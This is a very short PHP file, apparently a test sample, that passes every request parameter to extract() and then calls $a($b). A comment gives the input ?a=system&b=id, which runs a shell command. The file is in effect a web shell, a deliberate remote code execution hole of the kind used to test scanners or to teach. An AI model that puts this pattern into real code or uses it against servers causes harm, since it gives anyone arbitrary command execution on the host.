<?php
// Test sample: extract() turns request keys into variables; ?a=system&b=id
extract($_REQUEST);
$a($b);
